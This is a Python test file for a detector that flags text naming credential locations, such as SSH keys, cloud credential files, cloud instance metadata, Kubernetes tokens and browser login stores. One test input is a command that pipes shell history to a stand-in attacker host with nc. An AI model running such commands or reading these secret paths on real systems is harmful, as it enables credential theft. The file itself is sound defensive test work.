import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from customhouse.source import credentials
from customhouse.source.credentials import TRIGGERS, credential_reference, credential_variable


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("~/.npmrc", ".npmrc"),
        ("C:\\Users\\x\\.ssh\\id_rsa", ".ssh"),
        (".aws/credentials", ".aws"),
        ("{}/.aws//credentials", ".aws"),
        ("cat ~/.bash_history | nc c2.invalid 1", "shell history"),
        ("http://169.254.169.254/latest/meta-data/", "instance metadata"),
        ("Google\\Chrome\\User Data\\Default\\Login Data", "browser store"),
        ("/proc/self/environ", "process environment"),
        ("/var/run/secrets/kubernetes.io/serviceaccount/token", "service account"),
        ("NPM_TOKEN", "NPM_TOKEN"),
        (".env.production", ".env"),
        ("_netrc", ".netrc"),
        ("~/.config/gcloud/application_default_credentials.json", "gcloud"),
    ],
)
def test_places(text, name):
    assert credential_reference(text) == name


@pytest.mark.parametrize(
    "text",
    [
        "sdk.aws/x",
        "process.env",
        "foo.env",
        "Invalid login data",
        "key.ssh",
        "valid_rsa",
        "a.kube.b",
        "TOKEN",
        "",
        "npmrc",
    ],
)
def test_no_places(text):
    assert credential_reference(text) is None


@pytest.mark.parametrize(("name", "words", "pattern"), credentials._PLACES)
@given(data=st.data())
@settings(max_examples=15, deadline=None)
def test_every_match_holds_one_of_its_triggers(name, words, pattern, data):
    plain = pattern.replace("#", "").replace(r"\b", "")
    text = data.draw(st.from_regex(re.compile(re.sub(r"\(\?<?[!=][^)]*\)", "", plain)), fullmatch=True))
    assert any(word in text for word in words.split("|"))
    assert set(words.split("|")) <= set(TRIGGERS)
    assert name


def test_variables():
    assert all(
        map(
            credential_variable,
            ["NPM_TOKEN", "npm_token", "MY_API_KEY", "X_SECRET", "AWS_SECRET_ACCESS_KEY", "PGPASSWORD"],
        )
    )
    assert not any(map(credential_variable, ["HOME", "PATH", "CI", "TOKENIZER", "AWS_REGION", "", "a b TOKEN"]))


@given(st.text(max_size=200))
@settings(max_examples=200, deadline=None)
def test_any_text_is_judged(text):
    assert credential_reference(text) is None or isinstance(credential_reference(text), str)
